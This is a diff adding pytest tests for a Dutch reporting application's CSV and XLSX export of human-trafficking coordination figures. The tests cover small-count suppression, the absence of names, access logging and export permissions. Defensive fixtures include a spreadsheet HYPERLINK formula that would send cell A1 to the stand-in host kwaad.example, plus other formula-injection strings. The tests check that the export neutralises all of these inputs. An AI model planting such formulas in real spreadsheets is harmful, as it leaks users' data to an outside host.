@@ -1,0 +1,746 @@
+"""The report's figures as CSV and XLSX: contents number by number, suppression, formula
+injection, no names, the access log and who may export."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from dataclasses import dataclass
+from datetime import date, datetime, timedelta
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from ketenregie.models import Actiepunt, Activiteit, Bijzonderheden, Knelpunt, Overleg
+from ketenregie.selectors import cijfers
+from ketenregie.selectors.cijfers import Periode, Telling
+from mensenhandel.models import ToegangsLog
+from mensenhandel.onderdrukking import AANVULLEND, KLEIN, Cel, onderdrukken
+from rapportage import export, inhoud, pdf, tasks
+from rapportage.models import Rapport, Status
+from tests.conftest import maak_gebruiker
+from tests.rapportage.hulp import KLEINE_PDF, aanvragen, klaar_maken
+from tests.signalen.factories import SignaalFactory
+from tests.zorgcoordinatie.factories import TrajectFactory
+
+pytestmark = pytest.mark.django_db
+
+NAAM_SLACHTOFFER = "Anna Voorbeeldig"
+NAAM_INBRENGER = "Jan Inbrenger"
+NAAM_EIGENAAR = "Piet Actiehouder"
+KNELPUNT_TITEL = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'
+ACTIE = "@SUM(1+1) bespreken met het COA"
+BIJZONDERHEDEN = "-2 meldingen minder dan verwacht.\n+31 20 ... is het nummer van de regio."
+VERBORGEN = (987_654, 123_457, 555_551)  # true values of hidden cells in the crafted tables
+
+
+def url(naam: str, rapport: Rapport) -> str:
+    return reverse(f"rapportage:{naam}", kwargs={"uuid": rapport.uuid})
+
+
+def _halfjaar_soort(halfjaar: Periode) -> str:
+    return "eerste_halfjaar" if halfjaar.helft == 1 else "tweede_halfjaar"
+
+
+@pytest.fixture
+def gegevens(gebruikers, plaatsen):
+    """Gooi en Vechtstreek in the current half-year: 3 signals in Hilversum (one about a minor,
+    one about sexual exploitation, one naming a victim), 7 in Huizen; 2 trajectories, one
+    closed; a training in Hilversum; one open knelpunt with an action, one solved; the
+    half-year's bijzonderheden. Texts that start like a formula."""
+    halfjaar = Periode.halfjaar_van(timezone.localdate())
+    kr, gv, dag = gebruikers["kr"], plaatsen["gv"], timezone.localdate()
+    af_huizen = maak_gebruiker("af.huizen@test.example", gebruikers["af"].rol, gemeenten=[plaatsen["huizen"]])
+    SignaalFactory(
+        door=gebruikers["af"], minderjarig=True, personen=[{"soort": "slachtoffer", "naam": NAAM_SLACHTOFFER}]
+    )
+    SignaalFactory(door=gebruikers["af"], seksueel=True)
+    SignaalFactory(door=gebruikers["af"])
+    for _ in range(7):
+        SignaalFactory(door=af_huizen)
+    TrajectFactory(door=gebruikers["zc"])
+    TrajectFactory(door=gebruikers["zc"], afgesloten=True)
+    training = Activiteit.objects.create(
+        regio=gv,
+        soort="training",
+        titel="Training signaleren",
+        datum=dag,
+        doelgroepen=["jongeren"],
+        deelnemers=12,
+        organisator="CoMensha",
+        vastgelegd_door=kr,
+    )
+    training.gemeenten.set([plaatsen["hilversum"]])
+    Overleg.objects.create(regio=gv, soort="regietafel", datum=dag, vastgelegd_door=kr)
+    Bijzonderheden.objects.create(
+        regio=gv, jaar=halfjaar.van.year, helft=halfjaar.helft, tekst=BIJZONDERHEDEN, bijgewerkt_door=kr
+    )
+    knelpunt = Knelpunt.objects.create(
+        regio=gv,
+        thema="opvang",
+        titel=KNELPUNT_TITEL,
+        omschrijving="Voor mannelijke slachtoffers is er in de regio geen opvang.",
+        ingebracht_door=NAAM_INBRENGER,
+        datum=dag,
+        vastgelegd_door=kr,
+    )
+    Actiepunt.objects.create(
+        knelpunt=knelpunt, omschrijving=ACTIE, eigenaar=NAAM_EIGENAAR, deadline=date(dag.year + 1, 1, 31)
+    )
+    Knelpunt.objects.create(
+        regio=gv,
+        thema="overig",
+        titel="Al opgelost knelpunt",
+        omschrijving="Is klaar.",
+        ingebracht_door="Gemeente",
+        datum=dag,
+        status="opgelost",
+        vastgelegd_door=kr,
+    )
+    return {"halfjaar": halfjaar}
+
+
+@pytest.fixture
+def rapport(gebruikers, gegevens) -> Rapport:
+    halfjaar = gegevens["halfjaar"]
+    return klaar_maken(aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year))
+
+
+# --- Reading the files back -----------------------------------------------------------------------
+
+
+def csv_lezen(inhoud_bestand: bytes) -> tuple[dict[str, str], dict[str, list[list[str]]]]:
+    """(the explanation as {label: value}, {table title: [header, row, …, note, …]})."""
+    assert inhoud_bestand.startswith(b"\xef\xbb\xbf")
+    regels = list(csv.reader(io.StringIO(inhoud_bestand.decode("utf-8-sig")), delimiter=";"))
+    assert regels[0] == [export.TITEL]
+    blokken: list[list[list[str]]] = [[]]
+    for regel in regels[1:]:
+        if regel == []:
+            blokken.append([])
+        else:
+            blokken[-1].append(regel)
+    uitleg = dict(blokken[0])
+    return uitleg, {blok[0][0]: blok[1:] for blok in blokken[1:]}
+
+
+def rijen(tabel: list[list[str]]) -> dict[str, list[str]]:
+    """A table's rows by their first cell (the header and notes included)."""
+    return {rij[0]: rij[1:] for rij in tabel}
+
+
+def xlsx_lezen(inhoud_bestand: bytes):
+    return load_workbook(io.BytesIO(inhoud_bestand))
+
+
+def blad_rijen(blad) -> dict[str, list]:
+    """A sheet's rows from the header on, by their first cell (values as stored)."""
+    return {
+        rij[0]: list(rij[1:]) for rij in blad.iter_rows(min_row=3, values_only=True) if rij[0] is not None
+    }
+
+
+def xml_tekst(inhoud_bestand: bytes) -> str:
+    """All the XML of a workbook, to search for what must not be in it."""
+    with zipfile.ZipFile(io.BytesIO(inhoud_bestand)) as archief:
+        return "".join(archief.read(naam).decode("utf-8") for naam in archief.namelist())
+
+
+# --- Contents, number by number -------------------------------------------------------------------
+
+
+def test_csv_cijfers_een_voor_een(client_als, rapport, gegevens, plaatsen):
+    antwoord = client_als("kr").get(url("export_csv", rapport))
+    assert antwoord.status_code == 200
+    uitleg, tabellen = csv_lezen(antwoord.content)
+
+    halfjaar = gegevens["halfjaar"]
+    assert uitleg["Regio"] == "Gooi en Vechtstreek"
+    assert uitleg["Periode"].startswith(f"{_halfjaar_soort(halfjaar).split('_')[0].capitalize()} halfjaar")
+    assert uitleg["Versie"] == "1"
+    assert uitleg["Vastgesteld"] == "Nee"
+    assert uitleg["PDF gemaakt op"] == inhoud.datum_tekst(timezone.localdate())
+    assert uitleg["Controlesom van de PDF (SHA-256)"] == rapport.sha256
+    assert uitleg["Kleine aantallen"].startswith("Aantallen van 1 tot 5 staan er als ‘<5’")
+    assert "opnieuw berekend" in uitleg["Hoe de cijfers zijn berekend"]
+
+    samenvatting = rijen(tabellen["Samenvatting"])
+    assert samenvatting["Onderwerp"][:2] == [
+        "Deze periode",
+        f"Periode ervoor ({halfjaar.vorige_halfjaar().label})",
+    ]
+    assert samenvatting["Signalen geregistreerd"] == ["10", "0", "10"]
+    assert samenvatting["Signalen met een minderjarige"] == ["1", "0", "1"]
+    assert samenvatting["Trajecten gestart"] == ["2", "0", "2"]
+    assert samenvatting["Trajecten afgesloten"] == ["1", "0", "1"]
+    assert samenvatting["Trajecten open aan het eind van de periode"] == ["1", "0", "1"]
+    assert samenvatting["Overleggen gehouden"] == ["1", "0", "1"]
+
+    # Suppressed as in the PDF: Hilversum's 3 is small, Huizen's 7 would give it away.
+    per_gemeente = rijen(tabellen["Signalen per gemeente"])
+    assert per_gemeente["Gemeente"] == ["Signalen"]
+    assert per_gemeente["Hilversum"] == ["<5"]
+    assert per_gemeente["Huizen"] == ["x"]
+    assert per_gemeente["Regio (precies)"] == ["10"]
+    assert any(regel.startswith("In deze tabel zijn kleine aantallen verborgen") for regel in per_gemeente)
+    assert list(tabellen).count("Signalen per gemeente") == 1
+
+    signalen = rijen(tabellen["Signalen"])
+    assert signalen["Signalen geregistreerd"] == ["10"]
+    assert signalen["Signalen met een minderjarige"] == ["1"]
+    vormen = rijen(tabellen["Signalen per vorm van uitbuiting"])
+    assert vormen["Vorm"] == ["Aantal"]
+    assert vormen["Seksuele uitbuiting"] == ["1"] and vormen["Arbeidsuitbuiting"] == ["9"]
+
+    trajecten = rijen(tabellen["Zorgcoördinatie: trajecten"])
+    assert trajecten["Trajecten gestart in deze periode"] == ["2"]
+    assert trajecten["Trajecten afgesloten in deze periode"] == ["1"]
+    assert trajecten["Trajecten open op de peildatum"] == ["1"]
+    dag = timezone.localdate()
+    assert trajecten["Peildatum"] == [f"{dag.day}-{dag.month}-{dag.year}"]
+
+    activiteiten = rijen(tabellen["Activiteiten per gemeente en soort"])
+    assert activiteiten["Gemeente"] == [
+        "Training",
+        "Voorlichting",
+        "Bewustwordingscampagne",
+        "Bijeenkomst",
+        "Totaal",
+    ]
+    assert activiteiten["Regio (precies)"] == ["1", "0", "0", "0", "1"]
+    doelgroepen = rijen(tabellen["Activiteiten per doelgroep"])
+    assert doelgroepen["Doelgroep"] == ["Activiteiten", "Deelnemers"]
+    jongeren = next(v for k, v in doelgroepen.items() if k.lower().startswith("jongeren"))
+    assert jongeren == ["1", "12"]
+
+    overleggen = rijen(tabellen["Overleggen gehouden in deze periode"])
+    assert overleggen["Regietafel"] == ["1", "0"]
+    assert overleggen["Overleg aandachtsfunctionarissen"] == ["0", ""]
+
+    verwijzingen = rijen(tabellen["Doorverwijzingen per bestemming"])
+    kop = verwijzingen["Bestemming"]
+    for kolom in ("Aantal", "Met terugkoppeling", "Dagen tot terugkoppeling (mediaan)", "Wacht te lang"):
+        assert kolom in kop
+    assert kop[-5:] == [
+        f"Terugkoppeling bij het downloaden: {t}"
+        for t in ("verstuurd", "ontvangen", "opgepakt", "afgewezen", "afgerond")
+    ]
+    assert verwijzingen["Totaal"][kop.index("Aantal")] == "0"
+    assert verwijzingen["Totaal"][kop.index("Dagen tot terugkoppeling (mediaan)")] == ""  # no feedback yet
+
+    basisniveau = rijen(tabellen["Basisniveau per gemeente en onderdeel"])
+    assert basisniveau["Hilversum"][0] == "Onbekend"
+    assert basisniveau["Voldaan (van 2)"] == ["0"] * 8
+
+    assert rijen(tabellen["Bijzonderheden"])["Halfjaar"] == ["Bijzonderheden"]
+    knelpunten = tabellen["Open knelpunten"]
+    assert knelpunten[0] == ["Knelpunt", "Thema", "Status", "Ingebracht op", "Omschrijving", "Acties"]
+    assert len(knelpunten) == 2  # the solved one is not open
+    assert knelpunten[1][1:3] == ["Opvang", "Open"] and knelpunten[1][5] == "1"
+    acties = tabellen["Acties bij de open knelpunten"]
+    assert acties[0] == ["Knelpunt", "Actie", "Uiterlijk op", "Status", "Wat ervan is gekomen"]
+    assert acties[1][2] == f"31-1-{dag.year + 1}"
+
+
+def test_csv_volgt_de_verzameling(client_als, rapport):
+    """Every count of the gathering's lists appears as is, whatever the crafted dataset holds."""
+    c = inhoud.verzamelen(rapport, vandaag=timezone.localdate())
+    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
+    for titel, tellingen in [
+        ("Signalen per vorm van uitbuiting", c["signalen"].per_vorm),
+        ("Signalen per bron", c["signalen"].per_bron),
+        ("Signalen per sector", c["signalen"].per_sector),
+        ("Signalen per maand", c["signalen"].per_maand),
+        ("Open trajecten per fase op de peildatum", c["trajecten"].per_fase),
+        ("Afgesloten trajecten per reden van afsluiten", c["trajecten"].per_afsluitreden),
+    ]:
+        gevonden = rijen(tabellen[titel])
+        for t in tellingen:
+            assert gevonden[t.label] == [str(t.aantal)], (titel, t.label)
+    trend = rijen(tabellen["Signalen, doorverwijzingen en trajecten per halfjaar"])
+    kop = trend["Halfjaar"]
+    for label, veld in [
+        ("Signalen", "signalen"),
+        ("Doorverwijzingen", "verwijzingen"),
+        ("Trajecten gestart", "trajecten_geopend"),
+        ("Trajecten afgesloten", "trajecten_afgesloten"),
+    ]:
+        for r in c["trend"]:
+            assert trend[r.periode][kop.index(label)] == str(getattr(r, veld)), (r.periode, label)
+    samenvatting = rijen(tabellen["Samenvatting"])
+    for k in c["samenvatting"]:
+        assert [_getal(v) for v in samenvatting[k.label][:2]] == [k.waarde, k.vorige], k.label
+
+
+def _getal(tekst: str) -> int | float | None:
+    """A number as the CSV writes it (decimal comma; empty for none)."""
+    if tekst == "":
+        return None
+    return float(tekst.replace(",", ".")) if "," in tekst else int(tekst)
+
+
+def test_xlsx_bladen_getallen_en_opmaak(client_als, rapport):
+    antwoord = client_als("kr").get(url("export_xlsx", rapport))
+    assert antwoord.status_code == 200
+    boek = xlsx_lezen(antwoord.content)
+
+    assert boek.sheetnames[0] == "Toelichting"
+    assert all(len(naam) <= 31 for naam in boek.sheetnames)
+    assert len(set(boek.sheetnames)) == len(boek.sheetnames)
+    assert boek.properties.language == "nl-NL"
+    uitleg = {r[0]: r[1] for r in boek["Toelichting"].iter_rows(min_row=3, values_only=True) if r[0]}
+    assert uitleg["Regio"] == "Gooi en Vechtstreek"
+    assert uitleg["Versie"] == 1
+    assert uitleg["Kleine aantallen"].startswith("Aantallen van 1 tot 5")
+    assert uitleg["Vastgesteld"] == "Nee"
+    # The list of tables links to each sheet.
+    links = [c.hyperlink.location for c in boek["Toelichting"]["B"] if c.hyperlink]
+    assert len(links) == len(boek.sheetnames) - 1
+    assert "'Signalen per gemeente'!A1" in links
+
+    blad = boek["Signalen per gemeente"]
+    assert blad["A1"].value == "Signalen per gemeente" and blad["A1"].font.b
+    assert [c.value for c in blad[3]] == ["Gemeente", "Signalen"]
+    assert all(c.font.b for c in blad[3])
+    waarden = blad_rijen(blad)
+    assert waarden["Hilversum"] == ["<5"] and waarden["Huizen"] == ["x"]
+    assert blad["B4"].data_type == "s"
+    totaal = blad["B6"]
+    assert blad["A6"].value == "Regio (precies)" and totaal.value == 10 and totaal.data_type == "n"
+    assert blad.freeze_panes == "B4"
+
+    samenvatting = boek["Samenvatting"]
+    regel = next(r for r in samenvatting.iter_rows(min_row=4) if r[0].value == "Signalen geregistreerd")
+    assert [c.value for c in regel] == ["Signalen geregistreerd", 10, 0, 10]
+    assert all(c.data_type == "n" for c in regel[1:])
+    assert samenvatting.auto_filter.ref.startswith("A3:D")
+
+    trajecten = blad_rijen(boek["Trajecten"])
+    assert trajecten["Trajecten gestart in deze periode"] == [2]
+    assert isinstance(trajecten["Peildatum"][0], datetime)
+    assert trajecten["Peildatum"][0].date() == timezone.localdate()
+
+    knelpunten = boek["Open knelpunten"]
+    assert knelpunten["D4"].number_format == "d-m-yyyy"
+    assert knelpunten["F4"].value == 1 and knelpunten["F4"].data_type == "n"
+
+    # No formula anywhere in the workbook.
+    assert not any(c.data_type == "f" for b in boek.worksheets for r in b.iter_rows() for c in r)
+
+
+def test_bestandsnamen_en_kopregels(client_als, rapport, gegevens):
+    halfjaar = gegevens["halfjaar"]
+    periode = f"{halfjaar.van:%Y-%m-%d}-tm-{halfjaar.tot:%Y-%m-%d}"
+    for naam, soort, extensie in [
+        ("export_csv", "text/csv; charset=utf-8", "csv"),
+        ("export_xlsx", export.XLSX_TYPE, "xlsx"),
+    ]:
+        antwoord = client_als("kr").get(url(naam, rapport))
+        assert antwoord["Content-Type"] == soort
+        assert antwoord["Content-Disposition"] == (
+            f'attachment; filename="rapportage-gooi-en-vechtstreek-{periode}-v1-cijfers.{extensie}"'
+        )
+        assert "no-store" in antwoord["Cache-Control"]
+        assert antwoord["Content-Length"] == str(len(antwoord.content))
+
+
+# --- Suppression, names, injection ----------------------------------------------------------------
+
+
+def _geknutselde_tabellen(context: dict) -> dict:
+    """The real gathering with two crafted tables whose hidden cells have conspicuous values."""
+    klein, aanvullend, rijtotaal = VERBORGEN
+    proef = inhoud.Gemeentetabel(
+        titel="Proef per gemeente",
+        kolommen=["A", "B"],
+        regels=[
+            inhoud.Tabelregel(
+                "Hilversum", [Cel(klein, "<5", KLEIN), Cel(40, "40")], Cel(rijtotaal, "x", AANVULLEND)
+            ),
+            inhoud.Tabelregel("Huizen", [Cel(aanvullend, "x", AANVULLEND), Cel(50, "50")], Cel(77, "77")),
+        ],
+        kolomtotalen=[klein + aanvullend, 90],
+        totaal=klein + aanvullend + 90,
+        onderdrukt=True,
+        rijtotalen=True,
+    )
+    # A real suppression: 2 is small, and the 9 next to it would give it away.
+    echt = onderdrukken([[2, 30], [9, 40], [20, 25]], 5, rijtotalen=True)
+    assert echt.onderdrukt
+    proef_cijfers = cijfers.Gemeentetabel(gemeenten=["Een", "Twee", "Drie"], kolommen=["P", "Q"], tabel=echt)
+    return {**context, "proef": proef, "proef_cijfers": proef_cijfers}
+
+
+def test_een_verborgen_waarde_komt_nooit_in_het_bestand(rapport):
+    context = _geknutselde_tabellen(inhoud.verzamelen(rapport))
+    verborgen_echt = {
+        c.waarde
+        for rij in [*context["proef_cijfers"].tabel.rijen, [*context["proef_cijfers"].tabel.rijtotalen]]
+        for c in rij
+        if c.verborgen
+    }
+    assert verborgen_echt  # the crafted table does hide something
+
+    tekst_csv = export.csv_maken(context).decode("utf-8-sig")
+    _, tabellen = csv_lezen(export.csv_maken(context))
+    proef = rijen(tabellen["Proef per gemeente"])
+    assert proef["Hilversum"] == ["<5", "40", "x"]
+    assert proef["Huizen"] == ["x", "50", "77"]
+    assert proef["Regio (precies)"] == [str(VERBORGEN[0] + VERBORGEN[1]), "90", str(sum(VERBORGEN[:2]) + 90)]
+    assert rijen(tabellen["Proef cijfers"])["Een"][0] == "<5"
+
+    xlsx = export.xlsx_maken(context)
+    xml = xml_tekst(xlsx)
+    for waarde in VERBORGEN[:1] + VERBORGEN[2:]:  # the hidden values that are not part of a region total
+        assert str(waarde) not in tekst_csv and str(waarde) not in xml
+    assert str(VERBORGEN[1]) not in re.sub(str(VERBORGEN[0] + VERBORGEN[1]), "", tekst_csv)
+
+    blad = xlsx_lezen(xlsx)["Proef cijfers"]
+    waarden = {c.value for r in blad.iter_rows(min_row=4, max_row=6) for c in r[1:]}
+    assert not (
+        waarden
+        & verborgen_echt
+        - {c.waarde for rij in context["proef_cijfers"].tabel.rijen for c in rij if not c.verborgen}
+    )
+    assert "<5" in waarden and "x" in waarden
+
+
+def test_geen_namen_in_de_bestanden(client_als, rapport):
+    csv_tekst = client_als("kr").get(url("export_csv", rapport)).content.decode("utf-8-sig")
+    xml = xml_tekst(client_als("kr").get(url("export_xlsx", rapport)).content)
+    for naam in (NAAM_SLACHTOFFER, NAAM_INBRENGER, NAAM_EIGENAAR, "Al opgelost knelpunt"):
+        assert naam not in csv_tekst and naam not in xml
+    # The ketenregie's own texts are there.
+    assert "Voor mannelijke slachtoffers is er in de regio geen opvang." in csv_tekst
+    assert "mannelijke slachtoffers" in xml
+
+
+def test_formules_worden_onschadelijk_gemaakt(client_als, rapport):
+    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
+    assert tabellen["Open knelpunten"][1][0] == "'" + KNELPUNT_TITEL
+    assert tabellen["Acties bij de open knelpunten"][1][:2] == ["'" + KNELPUNT_TITEL, "'" + ACTIE]
+    assert tabellen["Bijzonderheden"][1][1] == "'" + BIJZONDERHEDEN
+
+    boek = xlsx_lezen(client_als("kr").get(url("export_xlsx", rapport)).content)
+    titel = boek["Open knelpunten"]["A4"]
+    assert titel.value == "'" + KNELPUNT_TITEL and titel.data_type == "s"
+    assert boek["Bijzonderheden"]["B4"].value == "'" + BIJZONDERHEDEN
+
+
+@pytest.mark.parametrize(
+    ("tekst", "verwacht"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+31 20 123", "'+31 20 123"),
+        ("-5 signalen", "'-5 signalen"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1+1", "'  =1+1"),
+        ("Gewoon een tekst", "Gewoon een tekst"),
+        ("<5", "<5"),
+        ("e-mail", "e-mail"),
+        ("Tekst\x0bmet\x00stuurtekens", "Tekstmetstuurtekens"),
+    ],
+)
+def test_neutraliseren(tekst, verwacht):
+    assert export.neutraliseren(tekst) == verwacht
+
+
+def test_stuurtekens_en_heel_lange_tekst_breken_de_xlsx_niet(rapport):
+    context = inhoud.verzamelen(rapport)
+    lang = "Een alinea over de aanpak. " * 1500  # longer than one cell holds
+    context["bijzonderheden"] = [
+        inhoud.Bijzonderhedentekst("Eerste halfjaar 2025", "Met\x0bstuurteken\x1f. " + lang)
+    ]
+    boek = xlsx_lezen(export.xlsx_maken(context))
+    waarde = boek["Bijzonderheden"]["B4"].value
+    assert waarde.startswith("Metstuurteken. ") and waarde.endswith(export.INGEKORT)
+    assert len(waarde) == 32_767
+
+
+# --- Every part of the gathering, and nothing unknown ------------------------------------------------
+
+
+def test_elk_onderdeel_van_de_verzameling_komt_in_de_export(rapport):
+    """The whole gathering is written (this fails first when verzamelen gains a type the export
+    does not know), and every key with figures has at least one table of its own."""
+    context = inhoud.verzamelen(rapport)
+    alle = export.tabellen(context)
+    for sleutel, waarde in context.items():
+        if sleutel in export.OVER_HET_RAPPORT:
+            continue
+        alleen = export.tabellen({**{k: context[k] for k in export.OVER_HET_RAPPORT}, sleutel: waarde})
+        if sleutel == "grafiek":
+            assert alleen == []  # charts only: their figures are tables elsewhere
+            continue
+        assert alleen, sleutel
+        assert any(t.inhoud == a.inhoud for t in alleen for a in alle), sleutel
+    assert all(isinstance(g, inhoud.Grafiek) for g in context["grafiek"].values())
+
+
+@dataclass(frozen=True)
+class _Nieuw:
+    """A bundle of figures the export has never seen, as the figure modules might add."""
+
+    totaal: int
+    percentage: float | None
+    per_soort: list[Telling]
+
+    @property
+    def helft(self) -> int:
+        return self.totaal // 2
+
+
+_Nieuw.__module__ = "rapportage.inhoud"
+
+
+@dataclass(frozen=True)
+class _NieuwPerGemeente:
+    per_gemeente: list[str]
+
+
+_NieuwPerGemeente.__module__ = "rapportage.inhoud"
+
+
+@dataclass(frozen=True)
+class _Vreemd:
+    aantal: int
+
+
+def test_een_nieuw_onderdeel_van_een_bekende_vorm_komt_er_vanzelf_in(rapport):
+    context = inhoud.verzamelen(rapport)
+    context["opvang_nieuw"] = _Nieuw(7, 42.5, [Telling("a", "Soort A", 3), Telling("b", "Soort B", 4)])
+    context["opvang_lijst"] = [Telling("a", "Soort A", 3)]
+    _, tabellen = csv_lezen(export.csv_maken(context))
+    assert rijen(tabellen["Opvang nieuw"]) == {
+        "Onderwerp": ["Waarde"],
+        "Totaal": ["7"],
+        "Percentage": ["42,5"],
+        "Helft": ["3"],
+    }
+    assert rijen(tabellen["Opvang nieuw – per soort"]) == {
+        "Onderdeel": ["Aantal"],
+        "Soort A": ["3"],
+        "Soort B": ["4"],
+    }
+    assert rijen(tabellen["Opvang lijst"]) == {"Onderdeel": ["Aantal"], "Soort A": ["3"]}
+
+
+@pytest.mark.parametrize(
+    ("sleutel", "waarde"),
+    [
+        ("vreemd", _Vreemd(3)),  # a dataclass from outside the figure modules
+        ("lijst_vreemd", [_Vreemd(3)]),
+        ("los_getal", 12),  # a loose value: explanation or table?
+        ("regio_object", object()),
+        ("per_gemeente_los", _NieuwPerGemeente(["Hilversum"])),  # by gemeente but not suppressed
+        ("cellen", [Cel(3, "<5", KLEIN)]),
+        ("regels", [inhoud.Tabelregel("Hilversum", [Cel(3, "<5", KLEIN)], None)]),
+        ("gemengd", [Telling("a", "A", 1), _Vreemd(2)]),
+        ("woordenboek", {"a": 1}),
+    ],
+)
+def test_een_onbekend_onderdeel_valt_niet_ongemerkt_weg(rapport, sleutel, waarde):
+    context = inhoud.verzamelen(rapport)
+    context[sleutel] = waarde
+    with pytest.raises(export.OnbekendOnderdeel, match=sleutel):
+        export.tabellen(context)
+
+
+def test_een_tabel_met_een_nieuw_veld_valt_niet_ongemerkt_weg(rapport):
+    @dataclass(frozen=True)
+    class Gemeentetabel(inhoud.Gemeentetabel):
+        ruwe_waarden: list[list[int]] | None = None
+
+    context = inhoud.verzamelen(rapport)
+    context["signalen_per_gemeente"] = Gemeentetabel(
+        **{
+            f: getattr(context["signalen_per_gemeente"], f) for f in inhoud.Gemeentetabel.__dataclass_fields__
+        },
+        ruwe_waarden=[[3], [7]],
+    )
+    with pytest.raises(export.OnbekendOnderdeel, match="ruwe_waarden"):
+        export.tabellen(context)
+
+
+def test_bladnamen_zijn_geldig_en_uniek():
+    bezet = {"toelichting"}
+    namen = [
+        export._bladnaam(naam, bezet)
+        for naam in [
+            "Zorgcoördinatie: trajecten",
+            "Een heel lange titel van een tabel die niet past",
+            "Een heel lange titel van een tabel die niet past",
+            "Toelichting",
+            "[Vraag]/antwoord*?",
+        ]
+    ]
+    assert namen[0] == "Zorgcoördinatie trajecten"
+    assert all(len(n) <= 31 for n in namen) and len({n.lower() for n in namen}) == len(namen)
+    assert not any(re.search(r"[\[\]:*?/\\]", n) for n in namen)
+
+
+# --- The same figures as the PDF -------------------------------------------------------------------
+
+
+def test_dezelfde_cijfers_als_de_pdf(client_als, gebruikers, gegevens, monkeypatch):
+    """Made by the task and exported afterwards: every table is the one the PDF was made from."""
+    gebruikt: list[dict] = []
+    echt = inhoud.verzamelen
+
+    def verzamelen(*args, **kwargs):
+        gebruikt.append(echt(*args, **kwargs))
+        return gebruikt[-1]
+
+    monkeypatch.setattr(inhoud, "verzamelen", verzamelen)
+    monkeypatch.setattr(pdf, "rapport_pdf", lambda context, voortgang=None: KLEINE_PDF)
+    halfjaar = gegevens["halfjaar"]
+    rapport = aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year)
+    assert tasks.rapport_maken.apply(args=[rapport.pk]).get() == "klaar"
+    assert client_als("kr").get(url("export_xlsx", rapport)).status_code == 200
+    bij_maken, bij_export = gebruikt
+    assert [(t.titel, t.inhoud) for t in export.tabellen(bij_maken)] == [
+        (t.titel, t.inhoud) for t in export.tabellen(bij_export)
+    ]
+
+
+def test_cijfers_met_de_dag_van_maken(client_als, gebruikers):
+    """A report made while its period was running is exported with the same reference date."""
+    rapport = klaar_maken(aanvragen(gebruikers["kr"], soort="eerste_halfjaar", jaar=2025))
+    gemaakt = datetime(2025, 5, 1, 9, 30, tzinfo=timezone.get_current_timezone())
+    Rapport.objects.filter(pk=rapport.pk).update(gestart_op=gemaakt, klaar_op=gemaakt + timedelta(seconds=20))
+    uitleg, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
+    assert uitleg["PDF gemaakt op"] == "1 mei 2025"
+    assert uitleg["Peildatum"].startswith(
+        "1 mei 2025 (de periode was bij het maken van de PDF nog niet voorbij"
+    )
+    assert rijen(tabellen["Zorgcoördinatie: trajecten"])["Peildatum"] == ["1-5-2025"]
+
+
+def test_vastgesteld_staat_in_de_toelichting(client_als, rapport, gebruikers):
+    from rapportage import services
+
+    services.rapport_vaststellen(door=gebruikers["kr"], rapport=rapport)
+    uitleg, _ = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
+    assert uitleg["Vastgesteld"].startswith("Ja, op ")
+
+
+# --- The access log, the page, and who -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("naam", "soort"), [("export_csv", "CSV"), ("export_xlsx", "XLSX")])
+def test_elke_export_wordt_gelogd(client_als, gebruikers, rapport, naam, soort):
+    for _ in range(2):
+        assert client_als("kr").get(url(naam, rapport)).status_code == 200
+    regels = ToegangsLog.objects.filter(actie=ToegangsLog.Actie.EXPORTEREN)
+    assert regels.count() == 2
+    regel = regels.first()
+    assert (
+        regel.gebruiker,
+        regel.uitkomst,
+        regel.object_type,
+        regel.object_id,
+        regel.scherm,
+        regel.toelichting,
+    ) == (
+        gebruikers["kr"],
+        ToegangsLog.Uitkomst.TOEGESTAAN,
+        "rapportage.Rapport",
+        str(rapport.uuid),
+        f"rapportage:{naam}",
+        f"{soort} versie 1",
+    )
+
+
+@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
+@pytest.mark.parametrize("status", [Status.AANGEVRAAGD, Status.BEZIG, Status.MISLUKT])
+def test_nog_niet_klaar_geeft_een_melding(client_als, gebruikers, naam, status):
+    rapport = aanvragen(gebruikers["kr"])
+    Rapport.objects.filter(pk=rapport.pk).update(status=status)
+    antwoord = client_als("kr").get(url(naam, rapport), follow=True)
+    assert antwoord.status_code == 200
+    assert antwoord.redirect_chain == [(url("rapport", rapport), 302)]
+    assert "de rapportage is nog niet klaar" in antwoord.content.decode()
+    assert not ToegangsLog.objects.filter(actie=ToegangsLog.Actie.EXPORTEREN).exists()
+
+
+def test_een_onbekend_onderdeel_geeft_een_melding_en_geen_500(client_als, rapport, monkeypatch):
+    echt = inhoud.verzamelen
+    monkeypatch.setattr(inhoud, "verzamelen", lambda *a, **k: {**echt(*a, **k), "nieuw": _Vreemd(1)})
+    antwoord = client_als("kr").get(url("export_csv", rapport), follow=True)
+    assert antwoord.redirect_chain == [(url("rapport", rapport), 302)]
+    assert "De cijfers konden niet als bestand worden gemaakt." in antwoord.content.decode()
+    regel = ToegangsLog.objects.get(actie=ToegangsLog.Actie.EXPORTEREN)
+    assert regel.uitkomst == ToegangsLog.Uitkomst.MISLUKT
+
+
+@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
+@pytest.mark.parametrize(("profiel", "status"), [("kr_ander", 404), ("af", 404), ("zc", 404), ("fb", 403)])
+def test_alleen_de_ketenregisseur_van_de_regio(client_als, gebruikers, naam, profiel, status):
+    rapport = klaar_maken(aanvragen(gebruikers["kr"]))
+    assert client_als(profiel).get(url(naam, rapport)).status_code == status
+    assert not ToegangsLog.objects.filter(actie=ToegangsLog.Actie.EXPORTEREN).exists()
+
+
+@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
+def test_anoniem_naar_inloggen(client, gebruikers, naam):
+    rapport = klaar_maken(aanvragen(gebruikers["kr"]))
+    antwoord = client.get(url(naam, rapport))
+    assert antwoord.status_code == 302 and antwoord["Location"].startswith(reverse("inloggen"))
+
+
